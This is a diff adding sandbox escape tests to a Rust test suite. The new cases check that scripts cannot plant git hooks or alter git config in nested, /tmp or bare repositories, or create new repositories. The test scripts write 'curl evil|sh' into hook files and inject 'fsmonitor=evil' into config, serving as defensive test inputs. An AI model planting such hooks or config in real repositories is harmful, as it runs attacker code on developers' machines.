@@ -260,6 +260,21 @@ fn absent(p: &Path) -> Result<(), String> {
     }
 }
 
+/// A git dir as git recognises one (HEAD, objects, refs), with a config
+/// and an empty hooks directory.
+fn fake_repo(g: &Path) {
+    for d in ["objects", "refs/heads", "hooks"] {
+        std::fs::create_dir_all(g.join(d)).unwrap();
+    }
+    std::fs::write(g.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::write(g.join("config"), "[core]\n").unwrap();
+}
+
+fn fake_repo_unchanged(g: &Path, hook: &str) -> Result<(), String> {
+    absent(&g.join("hooks").join(hook))?;
+    unchanged(&g.join("config"), "[core]\n")
+}
+
 fn out_lacks(o: &Output, needle: &str) -> Result<(), String> {
     let all = [&o.stdout[..], &o.stderr[..]].concat();
     if String::from_utf8_lossy(&all).contains(needle) {
@@ -1002,6 +1017,92 @@ fn cases() -> Vec<Case> {
         },
         Case {
             group: "protected",
+            name: "a nested repository's hooks and config (any depth)",
+            protect: true,
+            net: "none",
+            setup: |c, _| fake_repo(&c.ws.join("vendor/a/lib/.git")),
+            script: |_, _| {
+                "echo 'curl evil|sh' > vendor/a/lib/.git/hooks/pre-commit; echo '[core] fsmonitor=evil' >> vendor/a/lib/.git/config".to_string()
+            },
+            next: None,
+            check: |c, _, _| fake_repo_unchanged(&c.ws.join("vendor/a/lib/.git"), "pre-commit"),
+        },
+        Case {
+            group: "protected",
+            name: "a repository under /tmp: its hooks and config",
+            protect: true,
+            net: "none",
+            setup: |c, env| {
+                // SAFETY: geteuid never fails.
+                let uid = unsafe { libc::geteuid() };
+                let d = scratch::fresh_in_tmp(&format!("escape-repo-{}", c.tag), uid);
+                fake_repo(&d.join(".git"));
+                env.vars.push(("REPO".into(), d.display().to_string()));
+                env.dirs.push(d);
+            },
+            script: |_, env| {
+                let r = env.var("REPO");
+                format!("echo 'curl evil|sh' > '{r}/.git/hooks/pre-commit'; echo '[core] fsmonitor=evil' >> '{r}/.git/config'")
+            },
+            next: None,
+            check: |_, env, _| {
+                fake_repo_unchanged(&Path::new(&env.var("REPO")).join(".git"), "pre-commit")
+            },
+        },
+        Case {
+            group: "protected",
+            name: "a bare repository given with --allow-write: post-receive",
+            protect: true,
+            net: "none",
+            setup: |c, env| {
+                fake_repo(&c.root.join("bare.git"));
+                env.vars.push((
+                    "ALLOW_WRITE".into(),
+                    c.root.join("bare.git").display().to_string(),
+                ));
+            },
+            script: |_, _| {
+                "echo 'curl evil|sh' > ../bare.git/hooks/post-receive; echo '[core] fsmonitor=evil' >> ../bare.git/config; mkdir -p ../bare.git/refs/heads/x && echo pushed".to_string()
+            },
+            next: None,
+            check: |c, _, o| {
+                // The root is writable (its refs took the push's stand-in).
+                if !c.root.join("bare.git/refs/heads/x").exists()
+                    && String::from_utf8_lossy(&o.stdout).contains("DCJAIL-CASE-RAN")
+                {
+                    return Err("the bare repository was not writable at all".into());
+                }
+                fake_repo_unchanged(&c.root.join("bare.git"), "post-receive")
+            },
+        },
+        Case {
+            group: "protected",
+            name: "make a repository inside the workspace's (mkdir, a .git file, mv from /tmp)",
+            protect: true,
+            net: "none",
+            setup: |c, env| {
+                // SAFETY: geteuid never fails.
+                let uid = unsafe { libc::geteuid() };
+                let d = scratch::fresh_in_tmp(&format!("escape-made-{}", c.tag), uid);
+                env.vars.push(("MADE".into(), d.display().to_string()));
+                env.dirs.push(d);
+            },
+            script: |_, env| {
+                let t = env.var("MADE");
+                format!(
+                    "mkdir -p a b && mkdir a/.git; echo 'gitdir: ../x' > b/.git; mkdir -p '{t}/r/.git' && mv '{t}/r' c"
+                )
+            },
+            next: None,
+            check: |c, _, _| {
+                for n in ["a/.git", "b/.git", "c/.git"] {
+                    absent(&c.ws.join(n))?;
+                }
+                Ok(())
+            },
+        },
+        Case {
+            group: "protected",
             name: "hard link a protected file",
             protect: true,
             net: "none",
@@ -1225,6 +1326,10 @@ fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
     }
     if case.name.contains("unix socket") {
         args.push("--allow-unix-sockets".into());
+    }
+    let extra_root = env.var("ALLOW_WRITE");
+    if !extra_root.is_empty() {
+        args.extend(["--allow-write".into(), extra_root]);
     }
     if case.group == "process" && case.name.contains("timeout") {
         args.extend(["--timeout".into(), "2".into()]);
